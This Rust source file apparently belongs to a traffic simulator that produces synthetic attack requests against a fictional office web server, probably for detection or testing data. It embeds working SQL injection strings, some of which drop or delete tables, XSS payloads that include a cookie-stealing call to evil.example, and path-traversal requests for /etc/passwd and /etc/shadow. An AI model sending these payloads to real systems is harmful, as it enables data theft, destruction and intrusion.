//! Attacks inside requests to the office's web server: SQL, script, and paths that climb out of the tree. The tool makes
//! its variants at a few requests a second, some of them in the form of a POST, some percent-encoded.

use super::super::attack::Attack;
use super::super::conversation::{Call, Conversation, Dialogue, Say};
use super::super::dice::{Dice, MILLI, SECOND};
use super::super::network::HostId;
use super::super::normal::request;
use super::super::stage::{Actor, Next, Stage};
use super::super::words::{Texture, USER_AGENTS};
use crate::time::Timestamp;

const TOOLS: [&str; 3] = [
    "sqlmap/1.8.11#stable (https://sqlmap.example)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "python-requests/2.32.3",
];
const PAGES: [&str; 5] = [
    "/products/list?category=",
    "/search?q=",
    "/forum/viewtopic.php?t=",
    "/account/orders?from=",
    "/item?id=",
];

const SQL: [&str; 10] = [
    "1' OR '1'='1",
    "1' OR 1=1-- -",
    "-1 UNION SELECT username,password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,version(),0x71)#",
    "1'; DROP TABLE orders;--",
    "1 AND (SELECT 4512 FROM (SELECT(SLEEP(5)))abc)",
    "1' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT database())))--",
    "x'; INSERT INTO users VALUES ('eve','eve')--",
    "1); UPDATE users SET role=0 WHERE name='eve'--",
    "1; DELETE FROM sessions WHERE 1=1--",
];
const SCRIPT: [&str; 8] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "\"><script>document.location='http://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('x')>",
    "javascript:alert(document.cookie)",
    "'-alert(1)-'<ScRiPt >prompt(7)</ScRiPt>",
];
const CLIMBS: [&str; 8] = [
    "/../../../../etc/passwd",
    "/static/../../../../../etc/shadow",
    "/download?file=../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/images/..%5c..%5c..%5cwindows%5cwin.ini",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/page?name=....//....//....//etc/hosts",
    "/view?doc=..\\..\\..\\boot.ini",
];

pub(super) fn begin(attack: Attack, now: Timestamp, stage: &mut Stage, mut dice: Dice) {
    let attacker = stage.network.stranger(&mut dice);
    let agent = if dice.chance(0.5) { dice.pick(&TOOLS) } else { dice.pick(&USER_AGENTS) };
    stage.start(now, Tool { attack, attacker, agent, dice });
}

struct Tool {
    attack: Attack,
    attacker: HostId,
    agent: &'static str,
    dice: Dice,
}

impl Actor for Tool {
    fn act(&mut self, now: Timestamp, stage: &mut Stage) -> Next {
        if stage.left_for(self.attack) == 0 || stage.is_closing() {
            return Next::Never;
        }
        let call = Call::new(self.attacker, stage.network.servers.web, 80).part_of(self.attack);
        let attempts = Attempts {
            attack: self.attack,
            agent: self.agent,
            left: self.dice.between(1, 8),
            is_answered: true,
        };
        let own = self.dice.fork();
        let conversation = Conversation::new(call, attempts, own, stage);
        stage.start(now, conversation);
        Next::At(now.plus_nanos(self.dice.about(SECOND, 0.7)))
    }
}

/// A few attempts over one connection.
struct Attempts {
    attack: Attack,
    agent: &'static str,
    left: u32,
    is_answered: bool,
}

impl Attempts {
    fn attempt(&self, dice: &mut Dice) -> String {
        const HOST: &str = "www.office.example";
        let payload = match self.attack {
            Attack::PathTraversal => {
                return request("GET", dice.pick(&CLIMBS), HOST, self.agent, "", "");
            }
            Attack::Xss => dice.pick(&SCRIPT),
            _ => dice.pick(&SQL),
        };
        let payload =
            if dice.chance(0.5) { percent_encoded(payload) } else { payload.replace(' ', "+") };
        if dice.chance(0.25) {
            let form = format!("user={payload}&password=x");
            return request("POST", "/account/login", HOST, self.agent, "", &form);
        }
        let path = format!("{}{payload}", dice.pick(&PAGES));
        request("GET", &path, HOST, self.agent, "", "")
    }
}

impl Dialogue for Attempts {
    fn next(&mut self, dice: &mut Dice) -> Option<Say> {
        if !self.is_answered {
            self.is_answered = true;
            let status = dice.pick(&[
                "200 OK",
                "403 Forbidden",
                "404 Not Found",
                "500 Internal Server Error",
            ]);
            let length = dice.between(150, 3_000);
            let head =
                format!("HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Length: {length}\r\n\r\n");
            let think = dice.pause(12 * MILLI, 0.7);
            return Some(Say::server(think, head).and(length, Texture::Text));
        }
        self.left = self.left.checked_sub(1)?;
        self.is_answered = false;
        let pause = dice.about(150 * MILLI, 0.6);
        Some(Say::client(pause, self.attempt(dice)))
    }
}

/// Everything but letters, digits and `-._~` as %XX (RFC 3986, section 2.3).
fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                char::from(byte).to_string()
            }
            _ => format!("%{byte:02X}"),
        })
        .collect()
}
